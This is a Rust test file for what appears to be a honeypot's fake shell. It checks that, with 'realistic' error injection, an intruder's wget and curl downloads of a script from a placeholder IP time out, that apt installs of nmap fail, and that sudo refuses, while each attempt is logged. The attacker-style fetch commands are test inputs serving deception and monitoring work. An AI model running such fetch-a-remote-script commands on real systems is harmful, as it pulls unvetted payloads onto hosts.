//! Error injection through the real shell: what an attacker sees with `errors: realistic`,
//! and that the default settings still answer as before.

use std::time::Duration;

use crate::events::EventKind;
use crate::host::io_meter;
use crate::models::strategy::ErrorInjection;
use crate::shell::LineOutcome;
use crate::shell::commands::testing::{session, shell};

/// Runs `line` as `user` with realistic errors (or not); the outcome and the time blocked.
fn run(user: &str, line: &str, realistic: bool) -> (String, LineOutcome, Duration) {
    let shell = shell();
    let mut state = session(user);
    if realistic {
        state.deception.errors = ErrorInjection::Realistic;
    }
    let (outcome, work) = io_meter::measure(|| shell.run_line(&mut state, line));
    (
        String::from_utf8_lossy(&outcome.output).into_owned(),
        outcome,
        work.blocked,
    )
}

fn downloads(outcome: &LineOutcome) -> Vec<String> {
    outcome
        .events
        .iter()
        .filter_map(|e| match e {
            EventKind::FileDownload { url, .. } => Some(url.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn wget_times_out_retries_and_gives_up_but_the_attempt_is_recorded() {
    let (text, outcome, blocked) = run("root", "wget -t 3 http://203.0.113.9/x.sh", true);
    assert_eq!(outcome.status, 4);
    assert!(
        text.starts_with(
            "--2024-02-21 10:03:01--  http://203.0.113.9/x.sh\n\
             Connecting to 203.0.113.9:80... failed: Connection timed out.\nRetrying.\n\n\
             --2024-02-21 10:05:09--  (try: 2)  http://203.0.113.9/x.sh\n"
        ),
        "{text}"
    );
    assert!(
        text.ends_with("failed: Connection timed out.\nGiving up.\n\n"),
        "{text}"
    );
    assert_eq!(text.matches("Connecting to").count(), 3);
    // Three connection timeouts of 127 s and the 1 s and 2 s waits between tries.
    assert!(blocked >= Duration::from_secs(3 * 127 + 3), "{blocked:?}");
    assert!(blocked < Duration::from_secs(3 * 128 + 3), "{blocked:?}");
    assert_eq!(downloads(&outcome), ["http://203.0.113.9/x.sh"]);
    // Nothing was saved.
    let (ls, ..) = run(
        "root",
        "wget -q -t 1 http://203.0.113.9/x.sh; ls x.sh",
        true,
    );
    assert!(ls.contains("No such file or directory"), "{ls}");
}

#[test]
fn wget_resolves_names_first_and_honours_its_timeout() {
    let (text, _, blocked) = run("root", "wget -T 5 -t 2 http://example.com/a.sh", true);
    assert!(
        text.contains("Resolving example.com (example.com)... "),
        "{text}"
    );
    assert!(
        text.contains("Connecting to example.com (example.com)|"),
        "{text}"
    );
    assert!(text.contains("|:80... failed: Connection timed out.\nRetrying."));
    assert_eq!(blocked, Duration::from_secs(5 + 1 + 5));
}

#[test]
fn the_default_downloads_as_before() {
    let (text, outcome, blocked) = run("root", "wget http://203.0.113.9/x.sh", false);
    assert!(text.contains("Connecting to 203.0.113.9:80... connected."));
    assert_eq!(outcome.status, 0);
    assert_eq!(blocked, Duration::ZERO);
}

#[test]
fn curl_times_out_like_curl() {
    let (text, outcome, blocked) = run("root", "curl -s -S http://203.0.113.9/x.sh", true);
    assert_eq!(outcome.status, 28);
    assert!(
        text.starts_with("curl: (28) Failed to connect to 203.0.113.9 port 80 after 127"),
        "{text}"
    );
    assert!(text.ends_with(" ms: Connection timed out\n"), "{text}");
    assert!(blocked >= Duration::from_secs(127));
    assert_eq!(downloads(&outcome), ["http://203.0.113.9/x.sh"]);
    let (text, outcome, blocked) = run(
        "root",
        "curl --connect-timeout 10 -o /tmp/x http://203.0.113.9/x",
        true,
    );
    assert_eq!(outcome.status, 28);
    assert!(text.contains(" 0:00:10 --:--:--     0\n"), "{text}");
    assert!(
        text.contains("curl: (28) Connection timed out after 100"),
        "{text}"
    );
    assert!(blocked >= Duration::from_secs(10) && blocked < Duration::from_secs(11));
}

#[test]
fn apt_cannot_fetch_what_it_plans_to_install() {
    let (text, outcome, blocked) = run("root", "apt-get install -y nmap", true);
    assert_eq!(outcome.status, 100);
    assert!(text.contains(
        "The following additional packages will be installed:\n  libblas3 liblinear4 liblua5.3-0 lua-lpeg nmap-common\n"
    ), "{text}");
    assert!(text.contains("0 upgraded, 6 newly installed, 0 to remove and 0 not upgraded.\n"));
    assert!(text.contains(
        "Err:1 http://archive.ubuntu.com/ubuntu jammy/main amd64 libblas3 amd64 3.10.0-2ubuntu1\n  Temporary failure resolving 'archive.ubuntu.com'\n"
    ), "{text}");
    assert!(text.contains(
        "E: Failed to fetch http://archive.ubuntu.com/ubuntu/pool/universe/n/nmap/nmap_7.91+dfsg1+really7.80+dfsg1-2ubuntu0.1_amd64.deb  Temporary failure resolving 'archive.ubuntu.com'\n"
    ), "{text}");
    assert!(text.ends_with(
        "E: Unable to fetch some archives, maybe run apt-get update or try with --fix-missing?\n"
    ));
    assert!(blocked > Duration::ZERO);
    let (text, outcome, _) = run("root", "apt-get install -y nosuchpkg", true);
    assert_eq!(outcome.status, 100);
    assert!(text.ends_with("E: Unable to locate package nosuchpkg\n"));
    let (text, outcome, _) = run("root", "apt-get install masscan", true);
    assert_eq!(outcome.status, 1);
    assert!(
        text.ends_with("Do you want to continue? [Y/n] Abort.\n"),
        "{text}"
    );
    // Without error injection, as before.
    let (text, _, _) = run("root", "apt-get install -y nmap", false);
    assert!(
        text.ends_with("E: Unable to locate package nmap\n"),
        "{text}"
    );
}

#[test]
fn sudo_asks_three_times_and_refuses() {
    let (text, outcome, blocked) = run("deploy", "sudo id", true);
    assert_eq!(outcome.status, 1);
    assert_eq!(
        text,
        "[sudo] password for deploy: \nSorry, try again.\n\
         [sudo] password for deploy: \nSorry, try again.\n\
         [sudo] password for deploy: \nsudo: 3 incorrect password attempts\n"
    );
    assert!(blocked > Duration::from_secs(5));
    let (text, _, _) = run("deploy", "sudo id", false);
    assert!(text.starts_with("sudo: a terminal is required"));
}
